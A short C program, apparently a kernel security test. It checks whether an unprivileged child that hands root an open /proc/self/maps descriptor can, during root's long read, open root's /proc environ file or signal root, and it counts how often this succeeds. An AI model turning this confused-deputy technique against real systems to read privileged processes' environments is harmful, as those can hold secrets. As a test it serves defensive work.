/*
 * deputy.c - a user hands root a file of /proc that he has opened himself, and looks meanwhile what
 * he may do to who reads it for him. As root, on two processors. Prints how often he was let.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

enum { AREAS = 4096, TRIES = 3000, USER = 1000 };

/* A message with room for one descriptor. */
struct letter {
	char byte, control[CMSG_SPACE(sizeof(int))];
	struct iovec data;
	struct msghdr header;
};

static struct msghdr *letter(struct letter *letter)
{
	*letter = (struct letter){.data = {&letter->byte, 1}};
	letter->header = (struct msghdr){.msg_iov = &letter->data,
					 .msg_iovlen = 1,
					 .msg_control = letter->control,
					 .msg_controllen = sizeof(letter->control)};
	return &letter->header;
}

static void pass(int socket, int file)
{
	struct letter one;
	struct cmsghdr *control = CMSG_FIRSTHDR(letter(&one));

	*control = (struct cmsghdr){.cmsg_len = CMSG_LEN(sizeof(int)),
				    .cmsg_level = SOL_SOCKET,
				    .cmsg_type = SCM_RIGHTS};
	memcpy(CMSG_DATA(control), &file, sizeof(file));
	if (sendmsg(socket, &one.header, 0) != 1)
		perror("sendmsg");
}

static int receive(int socket)
{
	struct letter one;
	int file = -1;

	if (recvmsg(socket, letter(&one), 0) == 1 && CMSG_FIRSTHDR(&one.header))
		memcpy(&file, CMSG_DATA(CMSG_FIRSTHDR(&one.header)), sizeof(file));
	return file;
}

/* Many areas make a long text, in whose making there is much time. */
static void be_the_user(int socket, pid_t root)
{
	char path[32],
		*memory = mmap(NULL, AREAS * 8192, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int let = 0;

	if (setgroups(0, NULL) || setresgid(USER, USER, USER) || setresuid(USER, USER, USER))
		_exit(1);
	for (int i = 0; i < AREAS; i++)
		mprotect(memory + i * 8192, 4096, PROT_NONE);
	snprintf(path, sizeof(path), "/proc/%d/environ", root);
	pass(socket, open("/proc/self/maps", O_RDONLY));
	for (int i = 0; i < TRIES; i++) {
		int environment = open(path, O_RDONLY);
		char byte;

		let += read(environment, &byte, 1) == 1 || !kill(root, 0);
		close(environment);
	}
	printf("let: %d\n", let);
	fflush(stdout);
	_exit(0);
}

int main(void)
{
	static char text[1 << 16];
	pid_t root = getpid(), user;
	int ends[2], file;

	socketpair(AF_UNIX, SOCK_STREAM, 0, ends);
	user = fork();
	if (!user)
		be_the_user(ends[1], root);
	file = receive(ends[0]);
	while (waitpid(user, NULL, WNOHANG) != user)
		pread(file, text, sizeof(text), 0);
	printf("handed over: %d\n", file > 2);
	return 0;
}
